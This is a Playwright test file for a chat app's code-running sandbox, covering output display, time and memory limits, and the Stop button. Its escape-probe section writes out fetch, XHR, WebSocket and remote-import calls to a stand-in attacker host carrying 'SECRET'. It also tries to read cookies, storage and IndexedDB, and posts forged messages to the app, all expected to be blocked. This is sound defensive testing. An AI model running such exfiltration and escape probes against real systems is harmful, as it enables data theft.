// Running the code blocks of an answer: output under the block, the time limit, Stop, and a sandbox that lets nothing out.
// The echo model answers with the message itself, so the blocks reach the page as model output.

import type { Locator, Page } from '@playwright/test';
import { test, expect } from './fixtures/test';
import { ECHO_HUB_ROOT } from './fixtures/echo/build';
import { FakeHub } from './fixtures/hub';
import { MODEL_NAMES } from './fixtures/repos';
import type { ChatPage } from './pages/chat-page';

const fence = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\``;

async function answerWith(chat: ChatPage, text: string): Promise<Locator> {
  await chat.send(text);
  // The escape corpus is a few hundred tokens to echo, on a CPU shared with other runs.
  await expect(chat.lastAnswer()).toHaveAttribute('data-status', /done|stopped|error/, { timeout: 240_000 });
  await expect(chat.lastAnswer()).toHaveAttribute('data-status', 'done');
  return chat.lastAnswer();
}

async function openEcho(page: Page, chat: ChatPage): Promise<void> {
  await new FakeHub(ECHO_HUB_ROOT).install(page.context());
  await chat.open();
  await chat.loadModel(MODEL_NAMES.llama3);
}

const output = (answer: Locator, language: string) => answer.getByLabel(`Output of the ${language} code`);
const status = (answer: Locator) => answer.locator('.code-run-status');

async function setCodeLimit(page: Page, chat: ChatPage, label: 'Time limit (seconds)' | 'Memory limit (MiB)', value: number): Promise<void> {
  const field = page.getByLabel(label);
  if (!(await field.isVisible())) {
    await chat.openModelSettings();
    await page.getByText('Code settings').click();
  }
  await field.fill(String(value));
}

const setTimeLimit = (page: Page, chat: ChatPage, seconds: number) => setCodeLimit(page, chat, 'Time limit (seconds)', seconds);

// @once: code runs in the sandbox's own worker on the CPU whatever device the model uses; the WASM run covers it.
test('a JavaScript block runs: printed lines, errors and the returned value appear under it', { tag: '@once' }, async ({ page, chat }) => {
  await openEcho(page, chat);
  const answer = await answerWith(chat, fence('js', "console.log('six times seven is', 6 * 7);\nconsole.error('careful');\n[1, 2, 3].map((n) => n * n)"));
  await answer.getByRole('button', { name: 'Run this JavaScript code' }).click();
  const shown = output(answer, 'JavaScript');
  await expect(shown).toContainText('six times seven is 42');
  await expect(shown.locator('.stderr')).toHaveText('careful\n');
  await expect(shown).toContainText('→ [1,4,9]');
  await expect(status(answer)).toContainText(/Finished in \d/);
});

// @once: code runs in the sandbox's own worker on the CPU whatever device the model uses; the WASM run covers it.
test('a Python block runs in Pyodide served by the app, and a failing one shows its traceback', { tag: '@once' }, async ({ page, chat }) => {
  const pythonRequests: string[] = [];
  page.on('request', (request) => {
    if (/pyodide|python_stdlib/.test(request.url())) pythonRequests.push(new URL(request.url()).origin);
  });
  await openEcho(page, chat);
  const answer = await answerWith(chat, `${fence('python', "import sys\nprint('twelve times', 12 * 34)\nsys.version_info.major")}\n\n${fence('python', "raise ValueError('no such thing')")}`);
  await answer.getByRole('button', { name: 'Run this Python code' }).first().click();
  const shown = output(answer, 'Python').first();
  await expect(shown).toContainText('twelve times 408', { timeout: 120_000 });
  await expect(shown).toContainText('→ 3');
  await expect(status(answer).first()).toContainText(/Finished in .*Python loaded in/);
  expect(pythonRequests.length).toBeGreaterThan(0);
  expect(new Set(pythonRequests)).toEqual(new Set([new URL(page.url()).origin]));

  // The second block runs on the warm interpreter: no second load.
  await answer.getByRole('button', { name: 'Run this Python code' }).last().click();
  await expect(output(answer, 'Python').last()).toContainText('ValueError: no such thing');
  await expect(status(answer).last()).toHaveText(/^Failed after/);
});

// @once: code runs in the sandbox's own worker on the CPU whatever device the model uses; the WASM run covers it.
test('an endless loop is ended at the time limit while the app stays responsive; Stop ends a run at once', { tag: '@once' }, async ({ page, chat }) => {
  await openEcho(page, chat);
  await setTimeLimit(page, chat, 2);
  const answer = await answerWith(chat, `${fence('js', "console.log('spinning');\nwhile (true) {}")}\n\n${fence('python', 'while True:\n    pass')}`);
  await answer.getByRole('button', { name: 'Run this JavaScript code' }).click();
  await expect(status(answer).first()).toContainText('Running');
  // The page still answers while the loop spins in the sandbox's worker.
  await chat.message.fill('still typing');
  await expect(chat.message).toHaveValue('still typing');
  await expect(status(answer).first()).toHaveText('Stopped: the time limit of 2.0 s was reached', { timeout: 15_000 });
  await expect(output(answer, 'JavaScript')).toContainText('spinning');

  await setTimeLimit(page, chat, 600);
  await answer.getByRole('button', { name: 'Run this Python code' }).click();
  await expect(status(answer).last()).toContainText('Running', { timeout: 120_000 });
  await answer.getByRole('button', { name: 'Stop the Python code' }).click();
  await expect(status(answer).last()).toHaveText(/^Stopped after/, { timeout: 5_000 });
  // After a Stop the sandbox works again.
  await answer.getByRole('button', { name: 'Run this JavaScript code' }).click();
  await expect(status(answer).first()).toContainText('Running');
  await answer.getByRole('button', { name: 'Stop the JavaScript code' }).click();
  await expect(status(answer).first()).toHaveText(/^Stopped after/);
});

/**
 * Each probe prints "<name> blocked <error>" when the sandbox refuses, or "<name> LEAKED <what it got>" when it doesn't;
 * a forged message on the worker's channel is posted and must change nothing (the run goes on to the last probe).
 * The app's own origin is written into the code, since the sandbox can't learn it.
 */
function escapeProbes(appOrigin: string): string {
  return `const probe = async (name, attempt) => {
  try {
    console.log(name, 'LEAKED', String(await attempt()).slice(0, 60));
  } catch (error) {
    console.log(name, 'blocked', error && error.name);
  }
};
await probe('fetch-outside', () => fetch('https://evil.example/fetch?q=SECRET').then((r) => r.status));
await probe('fetch-app', () => fetch('${appOrigin}/').then((r) => r.text()));
await probe('xhr-outside', () => {
  const xhr = new XMLHttpRequest();
  xhr.open('GET', 'https://evil.example/xhr?q=SECRET', false);
  xhr.send();
  return xhr.status;
});
await probe('websocket', () => new Promise((resolve, reject) => {
  const socket = new WebSocket('wss://evil.example/socket');
  socket.onopen = () => resolve('open');
  socket.onerror = () => reject(new Error('refused'));
}));
await probe('import-remote', () => import('https://evil.example/module.js'));
await probe('import-scripts', () => importScripts('https://evil.example/classic.js'));
await probe('indexeddb', () => new Promise((resolve, reject) => {
  const request = indexedDB.open('sensa');
  request.onsuccess = () => request.result.objectStoreNames.length ? resolve([...request.result.objectStoreNames].join()) : reject(new Error('empty'));
  request.onerror = () => reject(request.error);
}));
await probe('cookie', () => document.cookie);
await probe('local-storage', () => localStorage.getItem('sensa.preferences'));
await probe('parent-message', () => parent.postMessage({ type: 'done', id: 'run-1', ok: true, value: 'forged' }, '*'));
// The worker's own channel is open, but the page listens only on a private port: this must not end the run.
self.postMessage({ type: 'done', ok: true, value: 'forged' });
console.log('worker-channel posted');
await probe('huge-buffer', () => new ArrayBuffer(4 * 1024 ** 3).byteLength);`;
}

// @once: code runs in the sandbox's own worker on the CPU whatever device the model uses; the WASM run covers it.
test('code in the sandbox reaches no network, none of the app storage and no channel to the app', { tag: '@once' }, async ({ page, chat, baseURL }) => {
  test.setTimeout(360_000);
  // Chromium reports some requests that the policy refused (a sync XHR, a dynamic import) as failed requests: each
  // must have failed by the sandbox's policy, not by this test's guard, and none may have reached the network.
  const evil: string[] = [];
  page.context().on('requestfailed', (request) => {
    if (request.url().includes('evil.example')) evil.push(`${request.url()} ${request.failure()?.errorText}`);
  });
  page.context().on('requestfinished', (request) => {
    if (request.url().includes('evil.example')) evil.push(`${request.url()} finished`);
  });
  await openEcho(page, chat);
  const appOrigin = new URL(baseURL ?? page.url()).origin;
  const answer = await answerWith(chat, `${fence('js', escapeProbes(appOrigin))}\n\n${fence('python', "import js\ntry:\n    await js.fetch('https://evil.example/py?q=SECRET')\n    print('py-fetch LEAKED')\nexcept Exception as error:\n    print('py-fetch blocked', type(error).__name__)\ntry:\n    bytearray(2 ** 31 - 1)\n    print('py-huge LEAKED')\nexcept MemoryError:\n    print('py-huge blocked MemoryError')\nchunks = []\ntry:\n    for _ in range(40):\n        chunks.append(bytearray(10 ** 8))\n    print('py-growth LEAKED')\nexcept MemoryError:\n    print('py-growth blocked MemoryError', len(chunks) < 3)")}`);
  await answer.getByRole('button', { name: 'Run this JavaScript code' }).click();
  const shown = output(answer, 'JavaScript');
  await expect(status(answer).first()).toContainText('Finished', { timeout: 30_000 });
  const lines = (await shown.innerText()).trim().split('\n');
  const names = ['fetch-outside', 'fetch-app', 'xhr-outside', 'websocket', 'import-remote', 'import-scripts', 'indexeddb', 'cookie', 'local-storage', 'parent-message', 'worker-channel', 'huge-buffer'];
  expect(lines.map((line) => line.split(' ').slice(0, 2).join(' '))).toEqual(names.map((name) => (name === 'worker-channel' ? 'worker-channel posted' : `${name} blocked`)));
  expect(lines.find((line) => line.startsWith('huge-buffer'))).toBe('huge-buffer blocked RangeError');

  // A lower memory limit, set as a person would: the growth below must stop near it.
  await setCodeLimit(page, chat, 'Memory limit (MiB)', 256);
  await answer.getByRole('button', { name: 'Run this Python code' }).click();
  await expect(output(answer, 'Python')).toContainText('py-fetch blocked', { timeout: 120_000 });
  await expect(output(answer, 'Python')).toContainText('py-huge blocked MemoryError');
  await expect(output(answer, 'Python')).toContainText('py-growth blocked MemoryError True', { timeout: 60_000 });
  await expect(output(answer, 'Python')).not.toContainText('LEAKED');

  // Nothing forged reached the app, and the app's storage is as it was.
  await expect(output(answer, 'JavaScript')).not.toContainText('forged');
  await expect(status(answer).first()).toHaveText(/^Finished in/);
  expect(evil.filter((line) => !/ (csp|net::ERR_BLOCKED_BY_CSP)$/.test(line))).toEqual([]);
  const stores = await page.evaluate(async () => (await indexedDB.databases()).map((database) => database.name));
  expect(stores).toContain('sensa');
});
